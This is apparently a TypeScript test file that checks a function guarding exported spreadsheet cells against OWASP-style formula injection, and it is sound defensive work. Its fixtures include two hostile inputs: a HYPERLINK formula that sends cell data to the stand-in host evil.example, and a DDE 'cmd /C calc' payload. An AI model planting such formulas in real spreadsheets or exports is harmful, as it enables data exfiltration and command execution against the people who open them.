import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { isDangerous, neutralize, readBack } from '../../../../functions/domain/sheets/neutralize.ts';

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];

describe('formula neutralisation (OWASP CSV injection)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `'=HYPERLINK("http://evil.example/?x="&A1,"click")`],
    ["+1+cmd|' /C calc'!A0", `'+1+cmd|' /C calc'!A0`],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['Plain text = fine', 'Plain text = fine'],
    ['', ''],
    ["'=typed with an apostrophe", "''=typed with an apostrophe"],
  ])('%j → %j', (input, expected) => {
    expect(neutralize(input)).toBe(expected);
  });

  it('never leaves a trigger first, and reading back restores the text exactly', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc
            .tuple(fc.constantFrom('', "'"), fc.constantFrom(...TRIGGERS), fc.string())
            .map(([q, t, s]) => q + t + s),
        ),
        (s) => {
          const out = neutralize(s);
          expect(isDangerous(out)).toBe(false);
          expect(readBack(out)).toBe(s);
        },
      ),
    );
  });
});
